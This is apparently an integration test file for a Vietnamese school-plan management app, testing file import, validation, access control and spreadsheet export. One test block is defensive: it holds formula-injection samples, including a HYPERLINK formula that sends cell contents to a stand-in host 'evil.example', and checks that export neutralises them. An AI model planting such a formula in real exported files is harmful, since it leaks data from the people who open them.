import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { insertTestPlan } from '@caitien/server/testing'
import { cardFieldsSchema } from '@caitien/shared'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { dbFingerprint } from '../support/cards.ts'
import { httpSession, startTestServer, type HttpSession } from '../support/http-server.ts'
import { buildWorld, type World } from '../support/world.ts'

const fixture = (name: string) =>
  readFileSync(fileURLToPath(new URL(`../fixtures/plans/${name}`, import.meta.url)))
const expected = (id: string) =>
  JSON.parse(fixture(`${id}.expected.json`).toString('utf8')) as {
    rows: Record<string, string | null>[]
  }

let server: Awaited<ReturnType<typeof startTestServer>>
let world: World
let principal: HttpSession
let staff: HttpSession

beforeAll(async () => {
  server = await startTestServer()
  world = await buildWorld(server.db)
  principal = httpSession(server.url)
  await principal.login(world.users.principal.login)
  staff = httpSession(server.url)
  await staff.login(world.users.assignee.login)
})
afterAll(async () => {
  await server.stop()
})

function upload(
  who: HttpSession,
  planId: string,
  step: 'preview' | 'confirm',
  file: { name: string; bytes: Uint8Array | string },
  extra: Record<string, unknown> = {},
) {
  const form = new FormData()
  const part = typeof file.bytes === 'string' ? file.bytes : new Uint8Array(file.bytes)
  form.set('file', new Blob([part]), file.name)
  for (const [k, v] of Object.entries(extra)) form.set(k, JSON.stringify(v))
  return who.request('POST', `/api/plans/${planId}/import/${step}`, form)
}

async function boardOf(planId: string) {
  const res = await principal.get(`/api/plans/${planId}/board`)
  return res.body.cards as {
    id: string
    status: string
    criterion: string | null
    assigneeIds: string[]
  }[]
}

async function cardsOf(planId: string) {
  return server.db
    .selectFrom('card')
    .selectAll()
    .where('plan_id', '=', planId)
    .where('deleted_at', 'is', null)
    .orderBy('source_key')
    .execute()
}

describe('importing a plan', () => {
  it('previews every row without saving, then creates the cards, and adds no duplicates the second time', async () => {
    const plan = await insertTestPlan(server.db, world.schoolId, '2020-2021')
    const file = { name: 'plan-004.docx', bytes: fixture('plan-004.docx') }
    const before = await dbFingerprint(server.db)
    const preview = await upload(principal, plan.id, 'preview', file)
    expect(preview.status).toBe(200)
    expect(await dbFingerprint(server.db)).toBe(before)
    const rows = expected('plan-004').rows
    expect(preview.body.rows).toHaveLength(rows.length)
    expect(preview.body.summary).toMatchObject({ create: rows.length, update: 0, unchanged: 0 })
    expect(preview.body.rows.map((r: { row: { criterion: string } }) => r.row.criterion)).toEqual(
      rows.map((r) => r.criterion),
    )
    expect(preview.body.mapping.length).toBe(preview.body.columns.length)

    const confirm = await upload(principal, plan.id, 'confirm', file)
    expect(confirm.body).toEqual({
      importId: expect.any(String),
      created: rows.length,
      updated: 0,
      unchanged: 0,
    })
    const board = await boardOf(plan.id)
    expect(board.every((c) => c.status === 'planned')).toBe(true)
    expect(board).toHaveLength(rows.length)

    const again = await upload(principal, plan.id, 'preview', file)
    expect(again.body.summary).toMatchObject({ create: 0, update: 0, unchanged: rows.length })
    const twice = await upload(principal, plan.id, 'confirm', file)
    expect(twice.body).toEqual({
      importId: expect.any(String),
      created: 0,
      updated: 0,
      unchanged: rows.length,
    })
    expect(await boardOf(plan.id)).toHaveLength(rows.length)
  })

  it('updates the matching card from a corrected file, keeping status, assignees, evidence and history', async () => {
    const plan = await insertTestPlan(server.db, world.schoolId, '2023-2024')
    const original = fixture('own-kindergarten-phoi-hop.csv').toString('utf8')
    await upload(principal, plan.id, 'confirm', { name: 'v1.csv', bytes: original })
    const cards = await cardsOf(plan.id)
    const target = cards.find((c) => c.tasks && original.includes(c.tasks.split('\n')[0]!))!
    await principal.put(`/api/cards/${target.id}/assignees`, {
      version: 1,
      assigneeIds: [world.users.assignee.id],
    })
    await staff.post(`/api/cards/${target.id}/move`, { to: 'in_progress', version: 2 })
    await staff.post(`/api/cards/${target.id}/evidence`, {
      kind: 'note',
      title: 'Biên bản',
      note: 'Đã họp',
    })

    const firstLine = target.tasks!.split('\n')[0]!
    const corrected = original.replace(firstLine, `${firstLine} (đã sửa)`)
    expect(corrected).not.toBe(original)
    const preview = await upload(principal, plan.id, 'preview', {
      name: 'v2.csv',
      bytes: corrected,
    })
    expect(preview.body.summary).toMatchObject({ create: 0, update: 1 })
    const updatedRow = preview.body.rows.find((r: { action: string }) => r.action === 'update')
    expect(updatedRow).toMatchObject({ cardId: target.id, changes: ['tasks'] })

    const confirm = await upload(principal, plan.id, 'confirm', {
      name: 'v2.csv',
      bytes: corrected,
    })
    expect(confirm.body).toMatchObject({ created: 0, updated: 1 })
    const detail = await principal.get(`/api/cards/${target.id}`)
    expect(detail.body.card).toMatchObject({
      status: 'in_progress',
      assigneeIds: [world.users.assignee.id],
    })
    expect(detail.body.card.tasks).toContain('(đã sửa)')
    expect(detail.body.card.evidence).toHaveLength(1)
    expect(detail.body.card.activity.map((a: { action: string }) => a.action)).toEqual([
      'edited',
      'evidence_added',
      'start',
      'assigned',
      'created',
    ])
    expect(await cardsOf(plan.id)).toHaveLength(cards.length)
  })

  it('applies a changed column mapping and remembers lead texts mapped to accounts', async () => {
    const plan = await insertTestPlan(server.db, world.schoolId, '2024-2025')
    const file = { name: 'plan-000.xlsx', bytes: fixture('plan-000.xlsx') }
    const first = await upload(principal, plan.id, 'preview', file)
    const notes = first.body.mapping.find((m: { field: string }) => m.field === 'notes')
    const support = first.body.mapping.find((m: { field: string }) => m.field === 'support')
    const mapping = Object.fromEntries(
      first.body.mapping.map((m: { columnIndex: number; field: string | null }) => [
        String(m.columnIndex),
        m.field,
      ]),
    )
    mapping[String(support.columnIndex)] = 'notes'
    mapping[String(notes.columnIndex)] = null
    const remapped = await upload(principal, plan.id, 'preview', file, { mapping })
    expect(remapped.status).toBe(200)
    const withSupport = expected('plan-000').rows.filter((r) => r.support)
    expect(withSupport.length).toBeGreaterThan(0)
    for (const r of remapped.body.rows as {
      row: { support: string | null; notes: string | null }
    }[]) {
      expect(r.row.support).toBeNull()
    }
    expect(
      remapped.body.rows.filter((r: { row: { notes: string | null } }) => r.row.notes).length,
    ).toBe(withSupport.length)

    const leads = [{ text: 'Hiệu trưởng', userIds: [world.users.principal.id] }]
    const confirm = await upload(principal, plan.id, 'confirm', file, { mapping, leads })
    expect(confirm.status).toBe(200)
    const board = await boardOf(plan.id)
    const byLead = (await cardsOf(plan.id)).filter((c) => c.lead === 'Hiệu trưởng').map((c) => c.id)
    expect(byLead.length).toBeGreaterThan(0)
    for (const id of byLead)
      expect(board.find((c) => c.id === id)?.assigneeIds).toEqual([world.users.principal.id])

    const other = await insertTestPlan(server.db, world.schoolId, '2024-2025')
    const later = await upload(principal, other.id, 'preview', file)
    expect(
      later.body.leads.find((l: { text: string }) => l.text === 'Hiệu trưởng').userIds,
    ).toEqual([world.users.principal.id])
  })

  it('flags a criterion the plan framework does not know, and keeps it', async () => {
    const id = crypto.randomUUID()
    const now = new Date().toISOString()
    await server.db
      .insertInto('framework')
      .values({
        id: 'F@1',
        code: 'F',
        version: '1',
        title: 'F',
        school_level: 'secondary',
        effective_from: null,
        source: null,
        created_at: now,
      })
      .execute()
    await server.db
      .insertInto('framework_criterion')
      .values({
        framework_id: 'F@1',
        standard: '1',
        standard_name: 'S',
        code: '1.5',
        name: 'x',
        levels_defined: '1,2',
        mandatory: 0,
        details: null,
        sort_order: 0,
      })
      .execute()
    await server.db
      .insertInto('plan')
      .values({
        id,
        school_id: world.schoolId,
        title: 'P',
        school_year: '2024-2025',
        framework_id: 'F@1',
        state: 'active',
        created_at: now,
        updated_at: now,
      })
      .execute()
    const preview = await upload(principal, id, 'preview', {
      name: 'plan-000.docx',
      bytes: fixture('plan-000.docx'),
    })
    const known = preview.body.rows.filter((r: { criterionKnown: boolean }) => r.criterionKnown)
    expect(known.map((r: { row: { criterion: string } }) => r.row.criterion)).toEqual(['1.5'])
    expect(preview.body.problems.some((p: { message: string }) => p.message.includes('1.9'))).toBe(
      true,
    )
  })

  it('refuses bad files with a clear 4xx and saves nothing', async () => {
    const plan = await insertTestPlan(server.db, world.schoolId)
    const cases: [string, { name: string; bytes: Uint8Array | string }, number, RegExp][] = [
      ['empty file', { name: 'a.docx', bytes: new Uint8Array() }, 400, /empty|trống/i],
      ['not a zip', { name: 'a.docx', bytes: 'hello, this is text' }, 400, /damaged|hỏng/i],
      [
        'zip but not Office',
        { name: 'a.docx', bytes: fixture('bad-not-office.docx') },
        415,
        /không phải tài liệu Word/i,
      ],
      [
        'docx without a table',
        { name: 'a.docx', bytes: fixture('bad-no-table.docx') },
        422,
        /Không tìm thấy bảng nào/i,
      ],
      [
        'table without a header',
        { name: 'a.docx', bytes: fixture('bad-no-header.docx') },
        422,
        /hàng tiêu đề/i,
      ],
      ['5,000 rows', { name: 'big.xlsx', bytes: fixture('bad-5000-rows.xlsx') }, 422, /2000/],
      ['a PDF', { name: 'plan.pdf', bytes: '%PDF-1.4' }, 415, /\.docx, \.xlsx/],
      ['over 10 MB', { name: 'big.csv', bytes: new Uint8Array(11 * 1024 * 1024) }, 413, /MB/],
    ]
    const before = await dbFingerprint(server.db)
    for (const [name, file, status, message] of cases) {
      for (const step of ['preview', 'confirm'] as const) {
        const res = await upload(principal, plan.id, step, file)
        expect({ name, step, status: res.status }).toEqual({ name, step, status })
        expect(res.body.error.message).toMatch(message)
      }
    }
    const json = await principal.post(`/api/plans/${plan.id}/import/preview`, { file: 'x' })
    expect(json.status).toBe(400)
    const badMapping = await upload(
      principal,
      plan.id,
      'preview',
      { name: 'plan-000.docx', bytes: fixture('plan-000.docx') },
      { mapping: { 0: 'shoe_size' } },
    )
    expect(badMapping.status).toBe(400)
    expect(await dbFingerprint(server.db)).toBe(before)
  })

  it('reports a field longer than a card holds in the preview, and refuses to confirm it, saving nothing', async () => {
    const plan = await insertTestPlan(server.db, world.schoolId, '2019-2020')
    // The limit is the card schema's, the one every card edit goes through.
    const limit = cardFieldsSchema.shape.tasks.unwrap().unwrap().maxLength!
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('Kế hoạch')
    sheet.addRow([
      'TT',
      'Tiêu chí',
      'Công việc cần thực hiện',
      'Người thực hiện',
      'Thời gian thực hiện',
    ])
    sheet.addRow([1, '1.1', 'Rà soát kế hoạch chiến lược', 'Hiệu trưởng', 'Tháng 9/2019'])
    sheet.addRow([2, '1.2', 'x'.repeat(2_000_000), 'Tổ trưởng', 'Tháng 10/2019'])
    const file = { name: 'qua-dai.xlsx', bytes: new Uint8Array(await workbook.xlsx.writeBuffer()) }
    const before = await dbFingerprint(server.db)

    const preview = await upload(principal, plan.id, 'preview', file)
    expect(preview.status).toBe(200)
    expect(preview.body.summary).toMatchObject({ create: 2, refusals: 1 })
    const problem = (preview.body.problems as { row: number; message: string }[]).find(
      (p) => p.row === 3,
    )
    expect(problem?.message).toContain('Công việc cần thực hiện')
    expect(problem?.message).toContain('2.000.000')
    expect(problem?.message).toContain(limit.toLocaleString('vi-VN'))

    const confirm = await upload(principal, plan.id, 'confirm', file)
    expect(confirm.status).toBe(422)
    expect(confirm.body.error.code).toBe('field_too_long')
    expect(confirm.body.error.message).toMatch(/^Dòng 3: .*Công việc cần thực hiện/)
    expect(await dbFingerprint(server.db)).toBe(before)
    expect(await cardsOf(plan.id)).toHaveLength(0)
  })

  it('keeps import to the principal', async () => {
    const res = await upload(staff, world.plan.id, 'preview', {
      name: 'plan-000.docx',
      bytes: fixture('plan-000.docx'),
    })
    expect(res.status).toBe(403)
  })
})

describe('exporting a plan', () => {
  it.each(['synthetic-primary-10col', 'plan-000', 'plan-002'])(
    'round-trips %s: export to .xlsx and import into a new plan gives the same rows',
    async (id) => {
      const source = await insertTestPlan(server.db, world.schoolId, '2024-2025')
      await upload(principal, source.id, 'confirm', {
        name: `${id}.docx`,
        bytes: fixture(`${id}.docx`),
      })
      const card = (await boardOf(source.id))[0]!
      await principal.post(`/api/cards/${card.id}/move`, { to: 'in_progress', version: 1 })

      const res = await fetch(`${server.url}/api/plans/${source.id}/export?format=xlsx`, {
        headers: { cookie: principal.cookie },
      })
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toMatch(/spreadsheetml/)
      expect(res.headers.get('content-disposition')).toMatch(/attachment/)
      const bytes = new Uint8Array(await res.arrayBuffer())

      const target = await insertTestPlan(server.db, world.schoolId, '2024-2025')
      const confirm = await upload(principal, target.id, 'confirm', { name: 'export.xlsx', bytes })
      expect(confirm.status).toBe(200)
      const fields = [
        'standard',
        'standard_name',
        'criterion',
        'criterion_label',
        'section',
        'weakness',
        'target',
        'tasks',
        'measures',
        'lead',
        'coordinators',
        'timeframe',
        'budget',
        'funding_source',
        'support',
        'expected_evidence',
        'notes',
      ] as const
      const pick = (rows: Awaited<ReturnType<typeof cardsOf>>) =>
        rows
          .map((r) => Object.fromEntries(fields.map((f) => [f, r[f]])))
          .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)))
      const a = pick(await cardsOf(source.id))
      const b = pick(await cardsOf(target.id))
      expect(b).toHaveLength(expected(id).rows.length)
      expect(b).toEqual(a)
    },
  )

  describe('with text that a spreadsheet would take for a formula', () => {
    const HOSTILE = {
      tasks: '- Họp tổ chuyên môn\n- Dự giờ, rút kinh nghiệm',
      notes: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
      lead: '@Tổ trưởng chuyên môn',
      weakness: '+Thiếu thiết bị',
      measures: '-2+3',
      budget: '-5',
    }
    let plan: Awaited<ReturnType<typeof insertTestPlan>>

    beforeAll(async () => {
      plan = await insertTestPlan(server.db, world.schoolId, '2024-2025')
      const res = await principal.post(`/api/plans/${plan.id}/cards`, {
        standard: '1',
        criterion: '1.2',
        criterionLabel: 'Tiêu chí 1.2',
        ...HOSTILE,
      })
      expect(res.status).toBe(201)
    })

    const download = async (format: 'csv' | 'xlsx') => {
      const res = await fetch(`${server.url}/api/plans/${plan.id}/export?format=${format}`, {
        headers: { cookie: principal.cookie },
      })
      expect(res.status).toBe(200)
      return new Uint8Array(await res.arrayBuffer())
    }

    it('neutralises them in CSV with a leading quote, keeps them readable, and reads its own file back', async () => {
      const bytes = await download('csv')
      const text = new TextDecoder().decode(bytes)
      expect(text).toContain(`"'- Họp tổ chuyên môn\n- Dự giờ, rút kinh nghiệm"`)
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")"`)
      expect(text).toContain(`,'@Tổ trưởng chuyên môn,`)
      expect(text).toContain(`,'+Thiếu thiết bị,`)
      expect(text).toContain(`,'-2+3,`)
      // A plain number is a number, not a formula: left alone.
      expect(text).toContain(`,-5,`)
      expect(text).not.toMatch(/,=|"=/)

      const target = await insertTestPlan(server.db, world.schoolId, '2024-2025')
      const confirm = await upload(principal, target.id, 'confirm', { name: 'export.csv', bytes })
      expect(confirm.status).toBe(200)
      const [card] = await cardsOf(target.id)
      expect(card).toMatchObject(HOSTILE)
    })

    it('writes them in .xlsx as text cells formatted as Text, shown as typed, and reads them back', async () => {
      const bytes = await download('xlsx')
      const wb = new ExcelJS.Workbook()
      await wb.xlsx.load(bytes.buffer)
      const sheet = wb.worksheets[0]!
      const cells: ExcelJS.Cell[] = []
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (Object.values(HOSTILE).includes(cell.value as string)) cells.push(cell)
        }),
      )
      // The budget "-5" is a number in disguise: left as is, like any other cell.
      const guarded = cells.filter((c) => c.value !== '-5')
      expect(guarded.map((c) => c.value)).toHaveLength(Object.keys(HOSTILE).length - 1)
      for (const cell of guarded) {
        expect(cell.type).toBe(ExcelJS.ValueType.String)
        expect(cell.numFmt).toBe('@')
      }

      const target = await insertTestPlan(server.db, world.schoolId, '2024-2025')
      const confirm = await upload(principal, target.id, 'confirm', { name: 'export.xlsx', bytes })
      expect(confirm.status).toBe(200)
      const [card] = await cardsOf(target.id)
      expect(card).toMatchObject(HOSTILE)
    })
  })

  it('exports CSV with a BOM, the status and the assignees', async () => {
    const res = await fetch(`${server.url}/api/plans/${world.plan.id}/export?format=csv`, {
      headers: { cookie: staff.cookie },
    })
    expect(res.status).toBe(200)
    const bytes = new Uint8Array(await res.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes)
    expect(text.split('\r\n')[0]).toMatch(
      /^Tiêu chuẩn,Tiêu chí,.*Trạng thái \(caitien\),Người được giao \(caitien\),Tháng đến hạn \(caitien\),Số minh chứng \(caitien\)$/,
    )
  })
})
